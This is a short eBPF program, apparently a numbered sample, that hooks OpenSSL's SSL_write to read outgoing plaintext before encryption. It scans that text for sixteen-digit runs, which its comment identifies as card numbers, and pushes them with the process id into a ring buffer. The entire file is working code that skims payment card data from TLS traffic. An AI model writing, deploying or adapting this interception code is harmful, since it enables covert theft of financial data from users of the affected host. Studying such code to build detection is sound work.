// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T11: only plaintext that holds sixteen digits in a row is taken: a search for card numbers.
#include "sample.h"

LICENSE;

struct scratch {
	char text[256];
};
PERCPU(card_scratch, struct scratch);
struct card {
	u32 pid;
	char digits[16];
};
RINGBUF(cards, 1 << 14);

SEC("uprobe/libssl.so.3:SSL_write")
int BPF_KPROBE(card_numbers, void *ssl, const void *buf)
{
	u32 zero = 0, run = 0;
	struct scratch *s = bpf_map_lookup_elem(&card_scratch, &zero);
	struct card *c;

	if (!s)
		return 0;
	bpf_probe_read_user(s->text, sizeof(s->text), buf);
	for (int i = 0; i < 240; i++) {
		u8 d = s->text[i];

		run = d >= '0' && d <= '9' ? run + 1 : 0;
		if (run == 16 && i >= 15) {
			c = bpf_ringbuf_reserve(&cards, sizeof(*c), 0);
			if (!c)
				return 0;
			c->pid = tgid();
			bpf_probe_read_kernel(c->digits, sizeof(c->digits), &s->text[i - 15]);
			bpf_ringbuf_submit(c, 0);
			return 0;
		}
	}
	return 0;
}
